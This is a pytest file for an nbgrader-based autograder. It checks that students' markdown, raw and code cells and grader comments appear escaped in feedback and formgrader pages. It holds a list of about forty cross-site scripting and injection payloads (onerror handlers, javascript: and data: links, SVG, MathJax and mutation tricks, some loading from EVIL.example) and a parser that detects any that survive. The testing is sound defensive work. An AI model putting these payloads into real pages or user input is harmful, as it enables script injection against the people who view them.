"""Students' text in nbgrader's pages: shown as they wrote it, and nothing of it runs."""

import re
from collections.abc import Callable
from html.parser import HTMLParser

import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
from nbgrader.converters import GenerateFeedback
from nbgrader.coursedir import CourseDirectory
from nbgrader.server_extensions.formgrader import handlers

from autograder.course import Course
from autograder.gradebook.engine import Log, settings
from autograder.gradebook.record import record
from tests.toycourse import ASSIGNMENT, NOTEBOOK, answered, hand_in

# What runs or loads something in some browser or other, or in MathJax; each says EVIL where it would.
ATTACKS = [
    "<script>EVIL</script>",
    "<ScRiPt src='https://EVIL.example/x.js'></sCrIpT>",
    "<<script>script>EVIL<</script>/script>",
    "<img src=x onerror=EVIL>",
    "<img src='https://EVIL.example/seen.png'>",
    "![seen](https://EVIL.example/seen.png)",
    "![x](javascript:EVIL)",
    "[click](javascript:EVIL)",
    "[click](  JaVaScRiPt&#58;EVIL)",
    "[click](java\tscript:EVIL)",
    "[click](data:text/html,<script>EVIL</script>)",
    "[click]: vbscript:EVIL\n\n[click]",
    "<javascript:EVIL>",
    "<a href='java&#x0A;script:EVIL'>x</a>",
    "<a href='data:text/html;base64,EVIL'>x</a>",
    "<iframe src='javascript:EVIL'></iframe>",
    "<iframe srcdoc='<script>EVIL</script>'></iframe>",
    "<svg onload=EVIL><circle/></svg>",
    "<svg><script>EVIL</script></svg>",
    "<svg><a xlink:href='javascript:EVIL'><text>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=EVIL>",
    "<img src='data:image/svg+xml;base64,EVIL'>",
    "<details open ontoggle=EVIL>x</details>",
    "<object data='EVIL'></object><embed src='EVIL'>",
    "<form action='https://EVIL.example'><button formaction='javascript:EVIL'>x</button></form>",
    "<style>body { background: url(https://EVIL.example) }</style>",
    "<div style='background: url(https://EVIL.example)'>x</div>",
    "<link rel=stylesheet href='https://EVIL.example'>",
    "<base href='https://EVIL.example'>",
    "<meta http-equiv=refresh content='0;url=https://EVIL.example'>",
    "<p id='toy-why' class='comment tabbable'>EVIL</p>",
    "<textarea id='toy-why-comment'>EVIL</textarea>",
    "<!--><img src=x onerror=EVIL>-->",
    "<noscript><p title='</noscript><img src=x onerror=EVIL>'>",
    "```mermaid\n<img src=x onerror=EVIL>\n```",
    "```html'><img src=x onerror=EVIL>\nx\n```",
    "# <img src=x onerror=EVIL>",
    "| <img src=x onerror=EVIL> |\n|--|\n| x |",
    r"$\href{javascript:EVIL}{x}$",
    r"$$\require{html} \style{background: url(https://EVIL.example)}{x}$$",
    "$</script><script>EVIL</script>$",
    r"\begin{x<img src=x onerror=EVIL>}\end{x<img src=x onerror=EVIL>}",
]
RUNS = {"script", "iframe", "object", "embed", "form", "input", "button", "textarea", "svg", "math", "style", "link"}
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


class Evil(HTMLParser):
    """Where EVIL stands other than in text that is read."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.inside: list[str] = []
        self.is_code = False  # MathJax leaves it alone
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.inside = [tag] if tag in RUNS | {"base", "meta"} else []
        self.is_code |= tag == "pre"
        self.found += [f"{tag} {name}" for name, value in attrs if "EVIL" in (value or "") and name not in HARMLESS]

    def handle_endtag(self, tag: str) -> None:
        self.is_code &= tag != "pre"

    def handle_data(self, data: str) -> None:
        if "EVIL" in data and self.inside:
            self.found.append(self.inside[0])
        if not self.is_code and re.search(r"\\(?:href|require|style)\b[^a-z]*.*EVIL", data):
            self.found.append("maths")

    def handle_comment(self, data: str) -> None:
        if "EVIL" in data:
            self.found.append("comment")


HARMLESS = {"alt", "title"}


def feedback_of(course: Course) -> str:
    """The page that `nbgrader generate_feedback` makes."""
    config, log = settings(course, ASSIGNMENT), Log()
    GenerateFeedback(coursedir=CourseDirectory(config=config, log=log), config=config, log=log).start()
    return (course.feedback / "ann" / ASSIGNMENT / f"{NOTEBOOK}.html").read_text()


def formgrader_of(course: Course) -> str:
    """What the formgrader shows of the notebook."""
    config = settings(course, ASSIGNMENT)
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    names = "assignment_id notebook_id submission_id base_url student last_name first_name notebook_path".split()
    resources = dict.fromkeys(names, "x") | {"index": 0, "total": 1}
    file = course.autograded / "ann" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
    return str(HTMLExporter(config=config).from_filename(str(file), resources=resources)[0])


@pytest.fixture
def recorded(course: Course, graded: Callable[..., None]) -> Course:
    """ann's written answer holds every attack, and so do cells of her own; what was odd about them, too."""
    text = "\n\n".join(ATTACKS)
    nb = answered(course.assignment(ASSIGNMENT).notebook(NOTEBOOK), why=text)
    nb.cells += [new_markdown_cell(text), new_raw_cell(text), new_code_cell(text)]
    nb.cells[-1].outputs = [new_output("display_data", {"text/html": text, "application/javascript": "EVIL"})]
    nb.cells += [new_markdown_cell(attack) for attack in ATTACKS]
    hand_in(course, "ann", nb)
    graded("ann", {"toy-double": 2.0}, "graded", *ATTACKS)
    record(course, course.assignment(ASSIGNMENT), ["ann"])
    return course


@pytest.mark.parametrize("page_of", [feedback_of, formgrader_of])
def test_no_attack_survives_in_a_page(recorded: Course, page_of: Callable[[Course], str]) -> None:
    page = page_of(recorded)
    assert page.count("EVIL") > 2 * len(ATTACKS)  # they are shown
    assert Evil(page).found == []


def test_what_is_looked_for_is_found() -> None:
    missed = [attack for attack in ATTACKS[:8] if "](" not in attack and not Evil(attack).found]
    assert missed == []


def test_what_people_write_is_shown_as_they_meant_it(course: Course, graded: Callable[..., None]) -> None:
    text = (
        "# Why\n\nA **number** and *itself*, $x^2 \\ge 0$ and $a<b$ & more, `x < y`.\n\n"
        "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n"
        "```python\nx = 1\n```\n\n![plot](attachment:plot.png)\n\n<details><summary>*More*</summary>\n\nInside.\n\n"
        "</details>\n\n[a link](https://example.org/page?a=1&b=2)"
    )
    nb = answered(course.assignment(ASSIGNMENT).notebook(NOTEBOOK), why=text)
    nb.cells[-1].attachments = {"plot.png": {"image/png": PNG}}
    hand_in(course, "ann", nb)
    graded("ann", {})
    record(course, course.assignment(ASSIGNMENT), ["ann"])
    page = feedback_of(course)
    for part in (
        "<h1>Why", "<strong>number</strong>", "<em>itself</em>", "$x^2 \\ge 0$", "$a&lt;b$", "&amp; more", "x &lt; y",
        "<th>a</th>", '<span class="mi">1</span>', f'src="data:image/png;base64,{PNG}"', "<details><summary>",
        'href="https://example.org/page?a=1&amp;b=2"',
    ):  # fmt: skip
        assert part in page, part
    nbformat.validate(nb)
